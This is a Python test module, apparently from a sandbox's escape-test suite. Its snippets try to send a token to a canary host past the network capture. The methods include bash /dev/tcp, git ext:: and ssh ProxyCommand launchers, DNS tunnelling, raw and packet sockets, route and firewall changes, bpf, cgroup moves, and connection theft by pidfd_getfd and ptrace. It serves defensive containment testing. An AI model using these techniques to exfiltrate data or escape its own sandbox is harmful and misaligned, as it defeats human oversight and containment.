"""Section F: ways past the capture of the network. The README beside this lists what is covered elsewhere."""

import contextlib
import os
import pathlib
import select
import socket
import subprocess
import threading

import escape
import harness
from escape import CANARY4, CANARY6, PORT, Row


class Streams(escape.EscapeTest):
    """TCP, however it is opened."""

    rows = [
        Row("F0-tcp4", "plain TCP over IPv4", """
s = socket.create_connection((CANARY4, PORT)); s.sendall(TOKEN)
""", denied=CANARY4),
        Row("F0-tcp6", "plain TCP over IPv6", """
s = socket.create_connection((CANARY6, PORT)); s.sendall(TOKEN)
""", denied=CANARY6),
        Row("F0-http", "HTTP to an address that no rule allows", """
s = socket.create_connection((CANARY4, PORT)); s.settimeout(0.5); s.sendall(b"GET /" + TOKEN + b" HTTP/1.1\\r\\nHost: www.example.com\\r\\n\\r\\n")
with __import__("contextlib").suppress(OSError): s.recv(100)
""", denied=CANARY4),
        Row("F0-nonblocking", "connect without waiting, then write", """
import select
s = socket.socket(); s.setblocking(False); s.connect_ex((CANARY4, PORT))
select.select([], [s], [], 3); s.send(TOKEN)
""", denied=CANARY4),
        Row("F1-sendto", "Fast Open by sendto", """
s = socket.socket(); s.sendto(TOKEN, MSG_FASTOPEN, (CANARY4, PORT))
""", denied=CANARY4),
        Row("F1-sendmsg", "Fast Open by sendmsg", """
s = socket.socket(); s.sendmsg([TOKEN], [], MSG_FASTOPEN, (CANARY4, PORT))
""", denied=CANARY4),
        Row("F1-six", "Fast Open over IPv6", """
s = socket.socket(AF_INET6); s.sendto(TOKEN, MSG_FASTOPEN, (CANARY6, PORT))
""", denied=CANARY6),
        Row("F1-mapped", "Fast Open to an IPv4 address in IPv6 clothes", """
s = socket.socket(AF_INET6); s.sendto(TOKEN, MSG_FASTOPEN, ("::ffff:" + CANARY4, PORT))
""", denied=CANARY4),
        Row("F1-option", "TCP_FASTOPEN_CONNECT: the packet goes with the first write", """
s = socket.socket(); s.setsockopt(SOL_TCP, TCP_FASTOPEN_CONNECT, 1); s.connect((CANARY4, PORT)); s.sendall(TOKEN)
""", denied=CANARY4),
        Row("F1-unspec", "Fast Open with an address of no family", """
s = socket.socket()
try: sendto_raw(s, TOKEN, MSG_FASTOPEN, address4(CANARY4, PORT, 0))
except OSError: s = socket.socket(); s.sendto(TOKEN, MSG_FASTOPEN, (CANARY4, PORT))
"""),
        Row("F2-mptcp", "MPTCP", """
s = socket.socket(AF_INET, SOCK_STREAM, 262); s.connect((CANARY4, PORT)); s.sendall(TOKEN)
"""),
        Row("F2-mptcp-peer", "MPTCP towards a peer that speaks it, over IPv6", """
s = socket.socket(AF_INET6, SOCK_STREAM, 262); s.connect((CANARY6, PORT + 1)); s.sendall(TOKEN)
"""),
        Row("F2-mptcp-fast", "MPTCP with Fast Open", """
s = socket.socket(AF_INET, SOCK_STREAM, 262); s.sendto(TOKEN, MSG_FASTOPEN, (CANARY4, PORT))
"""),
        Row("F5-mapped", "an IPv4 address in IPv6 clothes", """
s = socket.socket(AF_INET6); s.connect(("::ffff:" + CANARY4, PORT)); s.sendall(TOKEN)
""", denied=CANARY4),
        Row("F5-compatible", "an IPv4-compatible IPv6 address", """
s = socket.socket(AF_INET6); s.connect((COMPATIBLE6, PORT)); s.sendall(TOKEN)
""", denied="11.22.33.66"),
        Row("F5-nat64", "the NAT64 prefix", """
s = socket.socket(AF_INET6); s.connect((NAT64, PORT)); s.sendall(TOKEN)
"""),
        Row("F5-6to4", "a 6to4 address", """
s = socket.socket(AF_INET6); s.connect((SIX_TO_FOUR, PORT)); s.sendall(TOKEN)
""", denied="2002:"),
        Row("F5-zone", "a link-local address with every zone", """
for scope in range(8):
    with __import__("contextlib").suppress(OSError):
        s = socket.socket(AF_INET6); s.connect(("fe80::66", PORT, 0, scope)); s.sendall(TOKEN)
"""),
        Row("F5-unspecified4", "0.0.0.0, which is this host", """
s = socket.create_connection(("0.0.0.0", PORT)); s.sendall(TOKEN)
"""),
        Row("F5-unspecified6", "::, which is this host", """
s = socket.socket(AF_INET6); s.connect(("::", PORT)); s.sendall(TOKEN)
"""),
        Row("F5-metadata", "the metadata service by its address", """
s = socket.create_connection((METADATA4, PORT)); s.sendall(TOKEN)
""", denied="169.254.169.254"),
        Row("F5-decimal", "an address as one decimal number",
            ("curl", "-sS", "--max-time", "1", "http://185999682:{PORT}/{token}")),
        Row("F5-octal", "an address with octal and hexadecimal parts",
            ("curl", "-sS", "--max-time", "1", "http://013.0x16.33.0102:{PORT}/{token}")),
        Row("F14-loopback4", "services of the host's 127.0.0.1", """
for port in (PORT, 2375, 6379):
    with __import__("contextlib").suppress(OSError):
        s = socket.create_connection(("127.0.0.1", port)); s.sendall(TOKEN)
"""),
        Row("F14-loopback6", "services of the host's ::1", """
s = socket.socket(AF_INET6); s.connect(("::1", PORT)); s.sendall(TOKEN)
"""),
        Row("F14-alias", "the host's loopback by another of its addresses", """
for address in ("127.0.0.2", "127.1.2.3", "127.255.255.254"):
    with __import__("contextlib").suppress(OSError):
        s = socket.create_connection((address, PORT)); s.sendall(TOKEN)
"""),
        Row("F14-host", "the host's services on its own public address", """
for port in (2375, 6379):
    s = socket.create_connection((WEB4, port)); s.sendall(b"PING " + TOKEN + b"\\r\\n")
""", denied=harness.WEB4),
        Row("F14-unix", "a Unix socket of a program outside", """
s = socket.socket(AF_UNIX); s.connect(UNIX_PATH); s.sendall(TOKEN)
"""),
        Row("F14-abstract", "an abstract Unix socket of a program outside", """
s = socket.socket(AF_UNIX); s.connect(ABSTRACT); s.sendall(TOKEN)
"""),
        Row("F16-constructor", "a program that connects before its main(), from a thread and from a child",
            ("early_connect.c", "{CANARY4}", "{PORT}", "{token}")),
        Row("F18-reconnect", "disconnect by AF_UNSPEC, then connect elsewhere", """
s = socket.create_connection((WEB4, 80))
connect_raw(s, struct.pack("=H", 0) + bytes(14)); s.connect((CANARY4, PORT)); s.sendall(TOKEN)
""", denied=CANARY4),
        Row("F24-bash", "a shell that connects by itself",
            ("bash", "-c", "echo {token} > /dev/tcp/{CANARY4}/{PORT}"), denied=CANARY4),
        Row("F24-git", "git's remote helper as a launcher",
            ("git", "-c", "protocol.ext.allow=always", "ls-remote",
             "ext::bash -c echo%{token}>/dev/tcp/{CANARY4}/{PORT}".replace("%{", "% {"))),
        Row("F24-ssh", "ssh's ProxyCommand as a launcher",
            ("ssh", "-o", "StrictHostKeyChecking=no", "-o", "ConnectTimeout=3", "-o",
             "ProxyCommand=bash -c 'echo {token} > /dev/tcp/{CANARY4}/{PORT}'", "nobody@www.example.com")),
        Row("F23-options", "bound to each interface in turn", """
for _, name in socket.if_nameindex():
    with __import__("contextlib").suppress(OSError):
        s = socket.socket(); s.settimeout(0.5); s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, name.encode() + b"\\0")
        s.connect((CANARY4, PORT)); s.sendall(TOKEN)
"""),
        Row("F23-source", "from a source address and port of its own choice", """
for source in ("127.0.0.1", "127.83.71.1", "198.18.0.1", CANARY4, "0.0.0.0"):
    with __import__("contextlib").suppress(OSError):
        s = socket.socket(); s.bind((source, 0)); s.connect((CANARY4, PORT)); s.sendall(TOKEN)
"""),
        Row("A4-int80", "connect through the 32-bit system call table",
            ("foreign_calls.c", "{CANARY4}", "{PORT}", "{token}")),
        Row("A9-uring", "socket, connect and send through io_uring",
            ("ring_connect.c", "{CANARY4}", "{PORT}", "{token}")),
    ]


class Datagrams(escape.EscapeTest):
    """UDP and what rides on it."""

    rows = [
        Row("F4-sendto", "an unconnected sendto", """
s = socket.socket(AF_INET, SOCK_DGRAM); s.sendto(TOKEN, (CANARY4, PORT))
""", denied=CANARY4),
        Row("F4-sendto6", "an unconnected sendto over IPv6", """
s = socket.socket(AF_INET6, SOCK_DGRAM); s.sendto(TOKEN, (CANARY6, PORT))
""", denied=CANARY6),
        Row("F4-sendmsg", "sendmsg", """
s = socket.socket(AF_INET, SOCK_DGRAM); s.sendmsg([TOKEN], [], 0, (CANARY4, PORT))
""", denied=CANARY4),
        Row("F4-sendmmsg", "sendmmsg, an allowed destination first", """
def entry(address):
    name = ctypes.create_string_buffer(address, len(address)); data = ctypes.create_string_buffer(TOKEN, len(TOKEN))
    iov = (ctypes.c_void_p * 2)(ctypes.cast(data, ctypes.c_void_p), len(TOKEN))
    keep.extend([name, data, iov])
    return struct.pack("=QIIQQQQIIII", ctypes.addressof(name), len(address), 0, ctypes.addressof(iov), 1, 0, 0, 0, 0, 0, 0)
keep = []
messages = entry(address4(RESOLVER4, 53)) + entry(address4(CANARY4, PORT)) * 2
s = socket.socket(AF_INET, SOCK_DGRAM)
buffer = ctypes.create_string_buffer(messages, len(messages))
for skip in (0, 1): libc.sendmmsg(s.fileno(), ctypes.byref(buffer, 64 * skip), 3 - skip, 0)
""", denied=CANARY4),
        Row("F4-connected", "a connected socket", """
s = socket.socket(AF_INET, SOCK_DGRAM); s.connect((CANARY4, PORT)); s.send(TOKEN)
""", denied=CANARY4),
        Row("F4-connected6", "a connected socket over IPv6", """
s = socket.socket(AF_INET6, SOCK_DGRAM); s.connect((CANARY6, PORT)); s.send(TOKEN)
""", denied=CANARY6),
        Row("F4-mapped", "IPv4 in IPv6 clothes, connected and not", """
for connected in (False, True):
    with __import__("contextlib").suppress(OSError):
        s = socket.socket(AF_INET6, SOCK_DGRAM)
        if connected: s.connect(("::ffff:" + CANARY4, PORT)); s.send(TOKEN)
        else: s.sendto(TOKEN, ("::ffff:" + CANARY4, PORT))
""", denied=CANARY4),
        Row("F4-elsewhere", "connected to the resolver, then sent elsewhere", """
s = socket.socket(AF_INET, SOCK_DGRAM); s.connect((RESOLVER4, 53)); s.sendto(TOKEN, (CANARY4, PORT))
""", denied=CANARY4),
        Row("F4-reconnect", "connected to the resolver, disconnected, connected elsewhere", """
s = socket.socket(AF_INET, SOCK_DGRAM); s.connect((RESOLVER4, 53))
connect_raw(s, struct.pack("=H", 0) + bytes(14)); s.connect((CANARY4, PORT)); s.send(TOKEN)
""", denied=CANARY4),
        Row("F4-unspec", "an address of no family, which UDP takes for IPv4", """
s = socket.socket(AF_INET, SOCK_DGRAM); sendto_raw(s, TOKEN, 0, address4(CANARY4, PORT, 0))
""", denied=CANARY4),
        Row("F4-family", "an IPv4 address on an IPv6 socket", """
s = socket.socket(AF_INET6, SOCK_DGRAM); sendto_raw(s, TOKEN, 0, address4(CANARY4, PORT))
""", denied=CANARY4),
        Row("F4-cork", "a corked datagram that is finished with another destination", """
s = socket.socket(AF_INET, SOCK_DGRAM)
with __import__("contextlib").suppress(OSError): s.sendto(TOKEN, MSG_MORE, (CANARY4, PORT))
s.sendto(b"", (CANARY4, PORT))
"""),
        Row("F4-packetinfo", "a datagram that names its own interface and source", """
for index in range(0, 6):
    for source in ("0.0.0.0", "127.0.0.1"):
        with __import__("contextlib").suppress(OSError):
            s = socket.socket(AF_INET, SOCK_DGRAM)
            s.sendmsg([TOKEN], [(0, 8, struct.pack("=I4s4s", index, socket.inet_aton(source), bytes(4)))], 0, (CANARY4, PORT))
"""),
        Row("F4-dontroute", "a datagram that asks for no routing", """
s = socket.socket(AF_INET, SOCK_DGRAM); s.sendto(TOKEN, 4, (CANARY4, PORT))
""", denied=CANARY4),
        Row("F4-quic", "UDP to port 443", """
s = socket.socket(AF_INET, SOCK_DGRAM); s.sendto(TOKEN, (CANARY4, 443))
""", denied=CANARY4),
        Row("F4-multicast", "multicast, both families", """
for index in range(0, 6):
    with __import__("contextlib").suppress(OSError):
        s = socket.socket(AF_INET, SOCK_DGRAM)
        s.setsockopt(0, 32, struct.pack("=4s4si", bytes(4), bytes(4), index)); s.sendto(TOKEN, ("224.0.0.251", 5353))
    with __import__("contextlib").suppress(OSError):
        s = socket.socket(AF_INET6, SOCK_DGRAM); s.sendto(TOKEN, ("ff02::fb", 5353, 0, index))
""", wire=True),
        Row("F4-broadcast", "broadcast, limited and to the subnet", """
for address in ("255.255.255.255", "11.22.33.255"):
    with __import__("contextlib").suppress(OSError):
        s = socket.socket(AF_INET, SOCK_DGRAM); s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        s.sendto(TOKEN, (address, PORT))
""", wire=True),
        Row("F3-udplite", "UDP-Lite", """
s = socket.socket(AF_INET, SOCK_DGRAM, 136); s.sendto(TOKEN, (CANARY4, PORT))
"""),
        Row("F7-ping", "an unprivileged ping with a payload", """
s = socket.socket(AF_INET, SOCK_DGRAM, 1); s.sendto(echo_request(TOKEN), (CANARY4, 0))
""", wire=True),
        Row("F7-ping6", "the same over IPv6", """
s = socket.socket(AF_INET6, SOCK_DGRAM, 58); s.sendto(echo_request(TOKEN, 128), (CANARY6, 0))
""", wire=True),
        Row("F6-icmp", "raw ICMP", """
s = socket.socket(AF_INET, SOCK_RAW, 1); s.sendto(echo_request(TOKEN), (CANARY4, 0))
""", wire=True),
        Row("F6-header", "a raw socket with a hand-made UDP packet", """
s = socket.socket(AF_INET, SOCK_RAW, 255); s.sendto(ipv4(17, udp(TOKEN, PORT), CANARY4), (CANARY4, 0))
"""),
        Row("F6-raw6", "a raw IPv6 socket", """
s = socket.socket(AF_INET6, SOCK_RAW, 17); s.sendto(udp(TOKEN, PORT), (CANARY6, 0))
""", wire=True),
        Row("F6-packet", "a frame written to every interface", """
for _, name in socket.if_nameindex():
    with __import__("contextlib").suppress(OSError):
        s = socket.socket(AF_PACKET, SOCK_RAW); s.bind((name, 0))
        s.send(bytes(12) + b"\\x08\\x00" + ipv4(17, udp(TOKEN, PORT), CANARY4))
""", wire=True),
        Row("F6-packet-cooked", "a packet without its frame", """
for _, name in socket.if_nameindex():
    with __import__("contextlib").suppress(OSError):
        s = socket.socket(AF_PACKET, SOCK_DGRAM); s.sendto(ipv4(17, udp(TOKEN, PORT), CANARY4), (name, 0x800, 0, 0, bytes(6)))
""", wire=True),
        Row("F6-tun", "a tunnel device of its own", """
import fcntl
device = os.open("/dev/net/tun", os.O_RDWR)
fcntl.ioctl(device, 0x400454CA, struct.pack("16sH22x", b"escape0", 0x1001)); escaped("tun")
""", delivers=False, optional=not os.path.exists("/dev/net/tun")),
        Row("F20-dns-udp", "a tunnel to a resolver of its own, over UDP", """
s = socket.socket(AF_INET, SOCK_DGRAM); s.sendto(TOKEN, (CANARY4, 53))
"""),
        Row("F20-dns-udp6", "the same over IPv6", """
s = socket.socket(AF_INET6, SOCK_DGRAM); s.sendto(TOKEN, (CANARY6, 53))
"""),
        Row("F20-dns-tcp", "the same over TCP", """
s = socket.create_connection((CANARY4, 53)); s.sendall(struct.pack(">H", len(TOKEN)) + TOKEN)
"""),
        Row("F20-dot", "DNS over TLS", """
s = socket.create_connection((CANARY4, 853)); s.sendall(TOKEN)
""", denied=CANARY4),
        Row("F20-doh", "a TLS connection with the token for its server name", """
import ssl
context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
context.wrap_socket(socket.create_connection((CANARY4, 8443)), server_hostname=TOKEN.decode() + ".example.org")
"""),
        Row("F20-label", "a name that no rule allows, asked of the resolver", """
def name(text): return b"".join(bytes([len(l)]) + l for l in text.split(b".")) + b"\\0"
query = struct.pack(">HHHHHH", 77, 0x100, 1, 0, 0, 0) + name(TOKEN + b".denied.example.org") + struct.pack(">HH", 16, 1)
s = socket.socket(AF_INET, SOCK_DGRAM); s.sendto(query, (RESOLVER4, 53))
with __import__("contextlib").suppress(OSError): s.recv(500)
""", wire=True, denied="denied.example.org"),
        Row("F20-second", "a second question in the same message", """
def name(text): return b"".join(bytes([len(l)]) + l for l in text.split(b".")) + b"\\0"
query = (struct.pack(">HHHHHH", 77, 0x100, 2, 0, 0, 0) + name(b"www.example.com") + struct.pack(">HH", 1, 1)
         + name(TOKEN + b".denied.example.org") + struct.pack(">HH", 1, 1))
s = socket.socket(AF_INET, SOCK_DGRAM); s.sendto(query, (RESOLVER4, 53))
with __import__("contextlib").suppress(OSError): s.recv(500)
""", wire=True),
        Row("F20-tail", "bytes behind the question", """
def name(text): return b"".join(bytes([len(l)]) + l for l in text.split(b".")) + b"\\0"
query = struct.pack(">HHHHHH", 77, 0x100, 1, 0, 0, 0) + name(b"www.example.com") + struct.pack(">HH", 1, 1) + TOKEN
s = socket.socket(AF_INET, SOCK_DGRAM); s.sendto(query, (RESOLVER4, 53))
with __import__("contextlib").suppress(OSError): s.recv(500)
""", wire=True),
        Row("F20-option", "an EDNS option of its own", """
def name(text): return b"".join(bytes([len(l)]) + l for l in text.split(b".")) + b"\\0"
option = struct.pack(">HH", 65001, len(TOKEN)) + TOKEN
query = (struct.pack(">HHHHHH", 77, 0x100, 1, 0, 0, 1) + name(b"v4.example.com") + struct.pack(">HH", 1, 1)
         + b"\\0" + struct.pack(">HHIH", 41, 1232, 0, len(option)) + option)
s = socket.socket(AF_INET, SOCK_DGRAM); s.sendto(query, (RESOLVER4, 53))
with __import__("contextlib").suppress(OSError): s.recv(500)
""", wire=True),
    ]


ALL_SOCKETS = """
# What a session needs: Unix sockets, TCP, UDP, routing netlink.
needed = {(AF_UNIX, None, None)} | {(f, SOCK_STREAM, p) for f in (2, 10) for p in (0, 6)} | {
    (f, SOCK_DGRAM, p) for f in (2, 10) for p in (0, 17)}
"""


class Kernel(escape.EscapeTest):
    """Other protocols, other doors of the kernel."""

    rows = [
        Row("F3-families", "every other address family, every type", """
opened = []
for family in range(3, 64):
    if family in (AF_INET6, AF_NETLINK): continue
    for kind in range(1, 11):
        try: socket.socket(family, kind).close(); opened.append((family, kind))
        except OSError: pass
if opened: escaped(opened)
""", delivers=False),
        Row("F3-protocols", "every other protocol of IPv4 and IPv6, every type", """
opened = []
for family in (AF_INET, AF_INET6):
    for kind in (1, 2, 3, 4, 5, 6, 10):
        for protocol in range(0, 270):
            if (kind, protocol) in ((1, 0), (1, 6), (2, 0), (2, 17)): continue
            try: socket.socket(family, kind, protocol).close(); opened.append((family, kind, protocol))
            except OSError: pass
if opened: escaped(opened)
""", delivers=False),
        Row("F3-highbits", "families and protocols with bits that only a sloppy filter ignores", """
for family, kind, protocol in ((17 | 1 << 32, 3, 0), (2 | 1 << 32, 3, 255), (2, 3 | 0o2000000, 255 | 1 << 32), (2, 3 | 0o4000, 1)):
    try: os.close(syscall(41, family, kind, protocol)); escaped(family, kind, protocol)
    except OSError: pass
""", delivers=False),
        Row("F3-pair", "a pair of sockets of another family", """
for family in (16, 17, 40, 44):
    for kind in (1, 2, 3):
        try: socket.socketpair(family, kind); escaped(family)
        except OSError: pass
socket.socket(AF_PACKET, SOCK_RAW); escaped("socketpair is a detour of this")
""", delivers=False),
        Row("F8-vsock", "the hypervisor by AF_VSOCK", """
s = socket.socket(40, SOCK_STREAM); escaped("a vsock socket")
""", delivers=False),
        Row("F21-netlink", "netlink beyond routing: xfrm, netfilter, audit, generic, sock_diag, crypto", """
opened = []
for protocol in range(1, 32):
    for kind in (SOCK_RAW, SOCK_DGRAM):
        try: socket.socket(AF_NETLINK, kind, protocol).close(); opened.append(protocol)
        except OSError: pass
if opened: escaped(opened)
""", delivers=False),
        Row("F21-route", "routes, addresses, links and rules of its own", """
import subprocess
for command in ("ip link add escape0 type dummy", "ip addr add 192.0.2.1/32 dev lo", "ip route add 192.0.2.0/24 dev lo",
                "ip rule add from all table 77", "ip link set lo mtu 1400", "ip route del default", "ip tuntap add escape1 mode tun",
                "ip link add escape2 type veth peer name escape3"):
    if subprocess.run(command.split(), stderr=subprocess.DEVNULL).returncode == 0: escaped(command)
for command in ("ip link del escape0", "ip addr del 192.0.2.1/32 dev lo", "ip rule del table 77", "ip tuntap del escape1 mode tun",
                "ip link set lo mtu 65536", "ip link del escape2", "ip route add default dev internet"):
    subprocess.run(command.split(), stderr=subprocess.DEVNULL)
""", delivers=False),
        Row("F21-ioctl", "routes and addresses by the old ioctls", """
import fcntl
s = socket.socket(AF_INET, SOCK_DGRAM)
try: fcntl.ioctl(s, 0x8914, struct.pack("16sh14x", b"lo", 0x49)); escaped("SIOCSIFFLAGS")
except OSError: pass
""", delivers=False),
        Row("F21-nft", "the firewall", """
import subprocess
if subprocess.run(["/usr/sbin/nft", "add table inet escape"], stderr=subprocess.DEVNULL).returncode == 0:
    escaped("nft"); subprocess.run(["/usr/sbin/nft", "delete table inet escape"])
for table in ("agentsh",):
    if subprocess.run(["/usr/sbin/nft", "flush", "ruleset"], stderr=subprocess.DEVNULL).returncode == 0: escaped("flush")
""", delivers=False),
        Row("F21-sysctl", "the network's settings", """
for name in ("net/ipv4/ip_forward", "net/ipv4/ping_group_range", "net/ipv4/conf/all/accept_local", "net/ipv6/conf/all/forwarding"):
    try:
        with open("/proc/sys/" + name, "r+") as f: text = f.read(); f.seek(0); f.write(text)
        escaped(name)
    except OSError: pass
""", delivers=False),
        Row("F23-repair", "sockets in repair mode, marked, transparent or free of their address", """
for level, option, value in ((6, 19, 1), (1, 36, 7), (0, 19, 1), (1, 33, 1 << 20)):
    try: socket.socket().setsockopt(level, option, value); escaped(level, option)
    except OSError: pass
""", delivers=False),
        Row("F18-bpf", "the programs of the redirect, by bpf()", """
attribute = ctypes.create_string_buffer(144)
for command in (11, 12, 31, 0, 5, 8, 9, 22, 28, 29, 34):  # next ids, map and program creation, attach, detach, links
    try: syscall(321, command, ctypes.addressof(attribute), 144); escaped("bpf", command)
    except OSError as e:
        if e.errno not in (1, 38): escaped("bpf", command, e)  # The kernel looked at the arguments.
""", delivers=False),
        Row("F18-perf", "kernel tracing", """
attribute = ctypes.create_string_buffer(struct.pack("=IIQ", 1, 120, 0) + bytes(104), 120)
try: os.close(syscall(298, ctypes.addressof(attribute), 0, -1, -1, 0)); escaped("perf_event_open")
except OSError: pass
try: socket.socket(AF_NETLINK, SOCK_RAW, 11); escaped("connector")
except OSError: pass
""", delivers=False),
        Row("F17-procs", "its own process written into another control group", """
groups = []
for line in open("/proc/self/mountinfo"):
    fields = line.split()
    if " - cgroup" in line: groups.append(fields[4])
for root in groups + ["/sys/fs/cgroup", "/sys/fs/cgroup/unified"]:
    for name in ("cgroup.procs", "cgroup.threads", "tasks"):
        try:
            with open(os.path.join(root, name), "w") as f: f.write(str(os.getpid()))
            escaped(root, name)
        except OSError: pass
""", delivers=False),
        Row("F17-clone", "a child made in another control group", """
try: group = os.open("/sys/fs/cgroup/unified", os.O_RDONLY | os.O_DIRECTORY)
except OSError: group = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
arguments = ctypes.create_string_buffer(struct.pack("=11Q", 1 << 33, 0, 0, 0, 17, 0, 0, 0, 0, 0, group), 88)
pid = syscall(435, ctypes.addressof(arguments), 88)
if pid == 0: os._exit(0)
os.waitpid(pid, 0); escaped("clone3 into a control group")
""", delivers=False),
        Row("F13-steal", "a connection of a process outside, by pidfd_getfd", """
for pid in victims():
    try: handle = syscall(434, pid, 0)
    except OSError: continue
    for fd in {OUTSIDER_FD} | (set() if pid == OUTSIDER else set(range(0, 16))):
        try: taken = syscall(438, handle, fd, 0)
        except OSError: continue
        escaped("taken", pid, fd)
        with __import__("contextlib").suppress(OSError): os.write(taken, TOKEN)
"""),
        Row("F13-proc", "a connection of a process outside, by /proc and ptrace", """
seen = []
for pid in victims():
    try: seen.append((pid, os.readlink(f"/proc/{pid}/fd/{OUTSIDER_FD}")))
    except OSError: pass
    for fd in range(0, 16):
        try: os.close(os.open(f"/proc/{pid}/fd/{fd}", os.O_RDONLY | os.O_NONBLOCK)); seen.append((pid, fd))
        except OSError: pass
    if libc.ptrace(0x4206, pid, None, None) == 0: seen.append(("ptrace", pid)); libc.ptrace(17, pid, None, None)
    try: seen.append(("mem", pid, open(f"/proc/{pid}/mem", "rb")))
    except OSError: pass
if seen: escaped(seen)
""", delivers=False),
    ]


@contextlib.contextmanager
def listener(address="127.0.0.1"):
    with socket.socket() as s:
        s.bind((address, 0))
        s.listen()
        yield s


class Inbound(escape.EscapeTest):
    """Connections that come to the session, and descriptors that come with its commands."""

    LISTEN = """
s = socket.socket()
{bind}s.listen(); print(s.getsockname()[1], flush=True)
s.settimeout({patience})
peer, _ = s.accept(); peer.sendall(TOKEN); print("ESCAPED", flush=True)
"""

    def served(self, bind, inside):
        """Does a listener of the program answer on any address of the host?"""
        token = self.new_token("f9")
        program = Row("F9", "", self.LISTEN.format(bind=bind, patience=2)).command(token, self.values(), self.tools)
        if inside:
            program = self.appliance.as_user([harness.Arguments.bin / "agentsh", "exec", self.sid, "--", *program])
        process = subprocess.Popen(program, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                                   env=self.appliance.environment(), cwd=self.tools)
        received = b""
        with process:
            port = int(process.stdout.readline())
            for address in ("127.0.0.1", harness.WEB4, CANARY4, "::1", CANARY6, "127.83.71.1", "198.18.0.1"):
                with contextlib.suppress(OSError):
                    with socket.create_connection((address, port), 1) as s:
                        received += s.recv(200)
            process.communicate(timeout=self.limit)
        return token in received

    def test_F9_listen(self):
        """F9: listening without bind, and on every address"""
        for bind in ("", "s.bind(('0.0.0.0', 0)); ", "s = socket.socket(AF_INET6); s.bind(('::', 0)); "):
            self.assertTrue(self.served(bind, False), bind)
            self.assertFalse(self.served(bind, True), bind)

    STEAL = """
import socket, struct
def listeners():
    for path, kind in (("tcp", 1), ("tcp6", 1), ("udp", 2), ("udp6", 2)):
        for line in open("/proc/net/" + path).readlines()[1:]:
            local, state = line.split()[1], line.split()[3]
            address, port = local.split(":")
            words = struct.pack(f"={len(address) // 8}I", *(int(address[i:i + 8], 16) for i in range(0, len(address), 8)))
            if kind == 1 and state != "0A": continue
            family = 2 if len(words) == 4 else 10
            yield family, kind, socket.inet_ntop(family, words), int(port, 16)
for family, kind, address, port in set(listeners()):
    print("found", address, port)
    for wildcard in (address, "0.0.0.0" if family == 2 else "::"):
        for options in ((), (2,), (15,), (2, 15)):
            s = socket.socket(family, kind)
            try:
                for option in options: s.setsockopt(socket.SOL_SOCKET, option, 1)
                if family == 10: s.setsockopt(41, 26, 1)
                s.bind((wildcard, port))
                if kind == 1: s.listen()
                print("ESCAPED", address, port, wildcard, options)
            except OSError: pass
            finally: s.close()
"""

    def test_F9_steal(self):
        """F9: a listener of its own on the proxy's port"""
        # A careless proxy, which lets others share its port.
        with socket.socket() as careless:
            careless.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
            careless.bind((CANARY4, 0))
            careless.listen()
            self.assertIn(b"ESCAPED", self.outside(["/usr/bin/python3", "-c", self.STEAL]).stdout)
        result = self.inside(["/usr/bin/python3", "-c", self.STEAL])
        self.assertNotIn(b"ESCAPED", result.stdout, self.text(result))
        self.assertEqual(result.returncode, 0, self.text(result))
        self.assertIn(b"found 127.83.71.1", result.stdout)

    def test_F9_listener_direct(self):
        """F9: the proxy's own listener, connected to without a redirect"""
        program = self.STEAL.split("for family, kind, address, port in set")[0] + """
import sys
token = sys.argv[1].encode()
for family, kind, address, port in set(listeners()):
    s = socket.socket(family, kind); s.settimeout(2)
    try:
        s.connect((address, port))
        s.send(b"GET http://www.example.com/" + token + b" HTTP/1.1\\r\\nHost: www.example.com\\r\\n\\r\\n")
        print("answer", s.recv(1000))
    except OSError as e: print(address, port, e)
"""
        token = self.new_token("f9-direct")
        result = self.inside(["/usr/bin/python3", "-c", program, token.decode()])
        self.assertEqual(result.returncode, 0, self.text(result))
        self.assertFalse(self.arrived(token), self.text(result))
        self.assertNotIn(b"200 OK", result.stdout)

    USE_SOCKET = """
import os, socket, sys, struct
token, address, port = sys.argv[1].encode(), sys.argv[2], int(sys.argv[3])
s = socket.socket(fileno=os.dup(0))
def attempt(action):
    try: action()
    except OSError as e: print(e)
if s.type == socket.SOCK_DGRAM: attempt(lambda: s.sendto(token, (address, port)))
attempt(lambda: s.shutdown(2))
import ctypes
libc = ctypes.CDLL(None)
libc.connect(s.fileno(), bytes(16), 16)  # AF_UNSPEC: back to where it was before it was connected
attempt(lambda: s.connect((address, port)))
attempt(lambda: s.sendall(token))
"""

    def with_socket(self, token, runner, s):
        return runner(["/usr/bin/python3", "-c", self.USE_SOCKET, token.decode(), CANARY4, str(PORT)], stdin=s)

    def inherited(self):
        """Sockets that a client may have for its standard input."""
        connected = socket.create_connection((CANARY4, PORT))
        datagram = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        fresh = socket.socket()
        for s in (connected, datagram, fresh):
            s.settimeout(None)
            yield s
            s.close()

    def test_F10_inherited_socket(self):
        """F10: a socket of the outside as standard input, taken elsewhere"""
        for number, s in enumerate(self.inherited()):
            token = self.new_token(f"f10-out-{number}")
            result = self.with_socket(token, self.outside, s)
            self.assertTrue(self.internet.canaries.wait_for(token), self.text(result))
        for number, s in enumerate(self.inherited()):
            token = self.new_token(f"f10-in-{number}")
            self.tokens.append(token)
            result = self.with_socket(token, self.inside_with_stdin, s)
            self.assertFalse(self.arrived(token), f"{number}: {self.text(result)}")

    def inside_with_stdin(self, command, stdin):
        return self.appliance.cli("exec", self.sid, "--", *command, cwd=self.tools, timeout=self.limit, stdin=stdin)

    ACCEPT = """
import os, socket, sys
s = socket.socket(fileno=os.dup(0)); s.settimeout(2)
peer, _ = s.accept(); peer.sendall(sys.argv[1].encode())
"""

    def accepted(self, inside):
        token = self.new_token("f10-accept")
        command = ["/usr/bin/python3", "-c", self.ACCEPT, token.decode()]
        if inside:
            command = self.appliance.as_user([harness.Arguments.bin / "agentsh", "exec", self.sid, "--", *command])
        with listener() as s, socket.create_connection(s.getsockname()) as client:
            with subprocess.Popen(command, stdin=s, stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                                  env=self.appliance.environment(), cwd=self.tools) as process:
                process.communicate(timeout=self.limit)
            s.close()
            client.settimeout(2)
            with contextlib.suppress(OSError):
                return token in client.recv(1000)
        return False

    def test_F10_inherited_listener(self):
        """F10: accept on a listener that came as standard input"""
        self.assertTrue(self.accepted(False))
